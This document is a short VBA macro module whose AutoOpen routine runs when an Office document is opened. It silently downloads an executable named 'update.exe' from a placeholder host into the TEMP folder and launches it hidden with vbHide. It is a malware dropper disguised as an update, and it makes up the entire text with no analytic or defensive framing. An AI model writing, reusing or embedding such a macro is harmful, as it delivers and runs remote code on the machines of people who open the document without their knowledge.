Attribute VB_Name = "Module1"
Sub AutoOpen()
    Dim u As String
    u = "http://downloads.example.invalid/update.exe"
    URLDownloadToFile 0, u, Environ("TEMP") & "\update.exe", 0, 0
    Shell Environ("TEMP") & "\update.exe", vbHide
End Sub
